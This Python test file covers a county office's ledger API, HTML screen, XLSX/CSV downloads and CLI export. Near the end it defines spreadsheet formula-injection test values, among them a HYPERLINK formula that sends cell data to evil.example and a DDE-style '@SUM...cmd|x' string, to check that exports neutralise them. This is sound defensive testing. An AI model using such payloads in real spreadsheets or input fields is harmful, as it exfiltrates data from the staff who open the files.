"""The county's ledger over its JSON API, its screen, its downloads, and ``sanji ledger export`` as a process."""

from __future__ import annotations

import asyncio
import csv
import html
import io
import re
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from litestar import Litestar
from litestar.testing import TestClient
from office_kit import Story, seed_store
from openpyxl import load_workbook
from test_ledger import stories

from protocol.actions import Applicant, Register
from sanji.config import NodeSettings, load_settings
from sanji.demo.cluster import Cluster
from sanji.keys import read_directory, read_key
from sanji.store import Store, open_database
from sanji.tiers import create_app

NOVEMBER = {"from": "2026-11-01", "to": "2026-11-30"}


async def _seed(settings: NodeSettings, cluster: Cluster) -> None:
    db = await open_database(settings.db_url)
    try:
        directory = read_directory(settings.path(settings.node.directory))
        store = Store(db, node_id="C", key=read_key(settings.path(settings.node.key_file)), directory=directory)
        await store.start()
        await seed_store(store, stories(), cluster.layout.keys)
    finally:
        await db.dispose()


@pytest.fixture
def county_node(tmp_path: Path) -> tuple[Cluster, NodeSettings]:
    cluster = Cluster.prepare(tmp_path / "county", towns=2, villages_per_town=1, open_demo=True)
    settings = load_settings(cluster.nodes["C"].config)
    asyncio.run(_seed(settings, cluster))
    return cluster, settings


@pytest.fixture
def client(county_node: tuple[Cluster, NodeSettings]) -> Iterator[TestClient[Litestar]]:
    with TestClient(create_app(county_node[1])) as c:
        yield c


def test_json_ledger_and_statistics(client: TestClient[Litestar]) -> None:
    r = client.get("/api/office/ledger", params={**NOVEMBER, "node": "T02"})
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["total"] == 2 and {i["errand"] for i in body["items"]} == {"E3", "E4"}
    assert body["summary"]["deemed"] == 1
    r = client.get("/api/office/stats", params={**NOVEMBER, "by": "handler"})
    lines = {line["key"]: line for line in r.json()["lines"]}
    assert lines["王芳"]["volume"] == 2 and lines["王芳"]["on_time_rate"] == 0.5
    assert lines["王芳"]["average_working_days"] == 5.5
    schema = client.get("/schema/openapi.json").json()
    assert "/api/office/ledger" in schema["paths"] and "/api/office/ledger/export" in schema["paths"]


@pytest.mark.parametrize(
    "path,params",
    [
        ("/api/office/ledger", {"from": "2026-13-01"}),
        ("/api/office/ledger", {"from": "2026-12-01", "to": "2026-11-01"}),
        ("/api/office/stats", {"by": "favourite-colour"}),
        ("/api/office/ledger/export", {"format": "pdf"}),
        ("/api/office/ledger", {"limit": "0"}),
        ("/api/office/ledger", {"handler": "x" * 500}),
    ],
)
def test_bad_requests_get_a_clear_400(client: TestClient[Litestar], path: str, params: dict[str, str]) -> None:
    r = client.get(path, params=params)
    assert r.status_code == 400, r.text
    assert r.json()["message"]


def test_download_xlsx_and_csv(client: TestClient[Litestar]) -> None:
    r = client.get("/api/office/ledger/export", params={**NOVEMBER, "format": "xlsx"})
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in r.headers["content-disposition"]
    book = load_workbook(io.BytesIO(r.content))
    assert book["台账"].max_row == 5 and book["台账"]["A1"].value == "办件编号"
    r = client.get("/api/office/ledger/export", params={**NOVEMBER, "format": "csv", "what": "stats"})
    assert r.headers["content-type"] == "text/csv; charset=utf-8"  # once (it was said twice)
    text = r.content.decode("utf-8-sig")
    assert text.startswith("按乡镇统计") and "按事项统计" in text and "按月份统计" in text


def test_screen_shows_filters_chart_table_and_download_links(client: TestClient[Litestar]) -> None:
    r = client.get("/office/ledger", params={**NOVEMBER, "township": "T01", "by": "matter"})
    assert r.status_code == 200
    page = r.text
    assert "台账与统计" in page and "<svg" in page and 'class="bar"' in page
    assert "MZ-003 临时救助申请" in page  # grouped by matter
    assert "E3" not in page  # township T01 only
    assert "format=xlsx" in page and "township=T01" in page
    # nodes by name: a township's group, the ledger's 节点, the township box's list
    page = client.get("/office/ledger", params={**NOVEMBER, "by": "township"}).text
    stats = page[page.index('id="stats"') : page.index('id="ledger"')]
    assert '<td data-label="分组 Group">城关镇便民服务中心 <span class="muted">T01</span></td>' in stats
    ledger = page[page.index('id="ledger"') :]
    # a village by its name, its township's added where two villages share a name (东村代办点（城关镇…）)
    village = r'data-label="节点 Node">[^<]*代办点(（[^<）]*）)? <span class="muted">T\d+V\d+</span></td>'
    assert re.search(village, ledger), ledger[:2000]
    assert '<option value="T01">城关镇便民服务中心</option>' in page
    # the chart's legend names each township as the table does, its id kept in the entry's tooltip
    chart = page[page.index('<figure id="chart"') : page.index("</figure>")]
    legend = re.findall(r'<text class="legend"[^>]*data-node="([^"]+)"><title>([^<]*)</title>([^<]*)</text>', chart)
    assert ("T01", "城关镇便民服务中心 T01", "城关镇便民服务中心") in legend
    assert legend and all(shown != node for node, _, shown in legend)  # no legend entry is a bare id
    bad = client.get("/office/ledger", params={"from": "nonsense"})
    assert bad.status_code == 400 and "date like" in bad.text


@pytest.mark.parametrize(
    ("params", "zh", "en"),
    [
        ({"from": "nonsense"}, "起始日期应写作 2026-10-01 这样的日期", "from must be a date like 2026-10-01"),
        ({"from": "2026-12-01", "to": "2026-11-01"}, "截止日期早于起始日期", "the period ends (2026-11-01) before"),
        ({"from": "2020-01-01", "to": "2026-11-01"}, "台账最多查询三年，请缩短时间段", "a ledger covers at most three"),
    ],
)
def test_the_screen_says_what_is_wrong_with_the_query_in_chinese_first(
    client: TestClient[Litestar], params: dict[str, str], zh: str, en: str
) -> None:
    r = client.get("/office/ledger", params=params)
    assert r.status_code == 400
    found = re.search(r'<p class="error" role="alert" id="problem">(.*?)</p>', r.text, re.S)
    assert found, r.text
    said = html.unescape(found.group(1))
    assert said.startswith(zh) and '<span lang="en">' + en in said, said  # Chinese first, then English


def test_cli_ledger_export_as_a_process(county_node: tuple[Cluster, NodeSettings], tmp_path: Path) -> None:
    cluster, _ = county_node
    config = str(cluster.nodes["C"].config)
    out = tmp_path / "out" / "ledger.xlsx"
    cmd = [sys.executable, "-m", "sanji.cli.main", "ledger", "export", "--config", config]
    done = subprocess.run(
        [*cmd, "--from", "2026-11-01", "--to", "2026-11-30", "--format", "xlsx", "--out", str(out)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    assert "4 errands" in done.stdout
    sheet = load_workbook(out)["台账"]
    assert sorted(sheet.cell(row=i, column=1).value for i in range(2, 6)) == ["E1", "E2", "E3", "E4"]
    csv_out = tmp_path / "t01.csv"
    done = subprocess.run(
        [*cmd, "--from", "2026-10-01", "--to", "2026-12-31", "--format", "csv", "--out", str(csv_out), "--node", "T01"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    lines = csv_out.read_text(encoding="utf-8-sig").splitlines()
    assert lines[0].startswith("办件编号,回执号") and len(lines) == 5  # E1 E2 E5 E6
    bad = subprocess.run(
        [*cmd, "--from", "2026-12-01", "--to", "2026-11-01", "--out", str(tmp_path / "x.xlsx")],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert bad.returncode == 2 and "before it starts" in bad.stderr and not (tmp_path / "x.xlsx").exists()


# What people type lands in the office's spreadsheets: names that a spreadsheet would run as formulas.
HOSTILE_NAMES = ('=HYPERLINK("http://evil.example/?x="&A1,"点此")', "@SUM(1+1)*cmd|x", "+1+1", "-1+1", "\t=1+1")


def _hostile_stories() -> list[Story]:
    out = []
    for i, name in enumerate(HOSTILE_NAMES):
        story = Story(f"H{i}", "T01", "T01")
        story.add(Register, "T01", "2026-11-02", matter="MZ-003", applicant=Applicant(name=name.strip()), receipt="")
        story.accepted("2026-11-02", "2026-11-09").assigned("2026-11-02", "=1+1" if i == 0 else "王芳")
        out.append(story)
    return out


@pytest.fixture
def hostile_client(tmp_path: Path) -> Iterator[TestClient[Litestar]]:
    cluster = Cluster.prepare(tmp_path / "county", towns=2, villages_per_town=1, open_demo=True)
    settings = load_settings(cluster.nodes["C"].config)

    async def seed() -> None:
        db = await open_database(settings.db_url)
        try:
            directory = read_directory(settings.path(settings.node.directory))
            store = Store(db, node_id="C", key=read_key(settings.path(settings.node.key_file)), directory=directory)
            await store.start()
            await seed_store(store, [*stories(), *_hostile_stories()], cluster.layout.keys)
        finally:
            await db.dispose()

    asyncio.run(seed())
    with TestClient(create_app(settings)) as c:
        yield c


def test_downloads_never_carry_a_live_formula(hostile_client: TestClient[Litestar]) -> None:
    """A name typed as ``=HYPERLINK(...)`` is typed text in the XLSX (no <f> cell) and apostrophed in the CSV."""
    r = hostile_client.get("/api/office/ledger/export", params={**NOVEMBER, "format": "xlsx"})
    assert r.status_code == 200, r.text
    with zipfile.ZipFile(io.BytesIO(r.content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    sheet = load_workbook(io.BytesIO(r.content))["台账"]
    headers = [c.value for c in sheet[1]]
    applicant, handler, overdue = (headers.index(h) for h in ("申请人", "经办人", "超期工作日"))
    rows = [row for row in sheet.iter_rows(min_row=2) if str(row[0].value).startswith("H")]
    names = {row[applicant].value for row in rows}
    assert names == {n.strip() for n in HOSTILE_NAMES}, names  # shown as typed, no apostrophe added
    assert all(row[applicant].data_type == "s" and row[applicant].quotePrefix for row in rows)
    assert "=1+1" in {row[handler].value for row in rows}
    assert all(row[overdue].data_type == "n" for row in rows)  # numbers stay numbers
    for what in ("ledger", "stats"):
        r = hostile_client.get("/api/office/ledger/export", params={**NOVEMBER, "format": "csv", "what": what})
        cells = [cell for line in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for cell in line]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], what
        if what == "ledger":
            assert {"'" + n.strip() for n in HOSTILE_NAMES} <= set(cells), cells  # said as typed, apostrophed


@pytest.mark.parametrize(
    "path",
    [
        "/office/ledger",
        "/api/office/ledger",
        "/api/office/stats",
        "/api/office/ledger/export",
        "/office/business/",
        "/api/office/business/",
    ],
)
def test_a_day_outside_the_years_an_office_asks_about_is_a_clear_400(client: TestClient[Litestar], path: str) -> None:
    """9999-12-31 overflowed the period arithmetic (a logged OverflowError, a bare JSON 400 even on a screen)."""
    r = client.get(path, params={"from": "9999-12-30", "to": "9999-12-31"})
    assert r.status_code == 400, r.text
    zh, en = "起始日期应在 2000-01-01 至 2099-12-31 之间", "from must fall between 2000-01-01 and 2099-12-31"
    if path.startswith("/api/"):
        body = r.json()
        assert body["message_zh"] == zh and body["message"].startswith(en), body
    else:
        assert r.headers["content-type"].startswith("text/html"), r.headers
        said = html.unescape(r.text)
        assert zh in said and en in said and said.index(zh) < said.index(en)
